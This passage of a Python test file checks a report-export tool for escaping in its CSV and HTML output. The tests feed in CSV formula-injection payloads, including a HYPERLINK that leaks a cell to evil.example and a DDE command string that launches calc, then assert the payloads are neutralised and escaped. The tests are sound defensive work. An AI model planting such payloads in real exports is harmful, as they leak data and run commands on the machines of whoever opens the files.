        [CLI, "export-reports", "--out", str(tmp_path / "out")], capture_output=True, text=True, env=env, timeout=120
    )
    assert completed.returncode == 0, completed.stderr
    assert "report.html" in completed.stdout
    assert (tmp_path / "out" / "monthly_share_wanted-2023.png").stat().st_size > 0
    env["AI_JOB_SHARE_REPORT_DIR"] = str(tmp_path / "from-env")
    completed = subprocess.run([CLI, "export-reports"], capture_output=True, text=True, env=env, timeout=120)
    assert completed.returncode == 0, completed.stderr
    assert (tmp_path / "from-env" / "report.html").is_file()


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tSUM(1)",
    "\rSUM(1)",
]


def test_csv_exports_neutralise_formulas_and_the_page_stays_escaped(add_posting, warehouse_conn, tmp_path):
    import csv

    taxonomy_id = '=HYPERLINK("http://evil.example")<b>'
    for role in HOSTILE_CELLS:
        add_posting(warehouse_conn, taxonomy_id, datetime(2022, 1, 10), job_role=role)
    refresh(warehouse_conn)
    files = write_reports(warehouse_conn, tmp_path)
    cells = set()
    for path in files.csvs:
        with path.open(encoding="utf-8", newline="") as file:
            cells.update(cell for row in csv.reader(file) for cell in row)
    # OWASP: no cell may start with = + - @ tab or CR, but numbers (a negative difference) stay numbers.
    formulas = {cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")}
    assert all(re.fullmatch(r"-[0-9.]+(e-?[0-9]+)?", cell) for cell in formulas), formulas
    assert {"'" + role for role in HOSTILE_CELLS} <= cells  # the text kept, behind a quote
    assert "'" + taxonomy_id in cells
    page = files.html.read_text(encoding="utf-8")
    assert "<b>" not in page and "=HYPERLINK(&quot;http://evil.example&quot;)&lt;b&gt;" in page


@pytest.mark.parametrize(("umask", "mode"), [(0o077, 0o600), (0o022, 0o644)])
def test_report_files_follow_the_umask(warehouse_conn, tmp_path, umask, mode):
    refresh(warehouse_conn)
    previous = os.umask(umask)
    try:
        files = write_reports(warehouse_conn, tmp_path)
    finally:
        os.umask(previous)
    assert {oct(path.stat().st_mode & 0o777) for path in [files.html, *files.csvs]} == {oct(mode)}
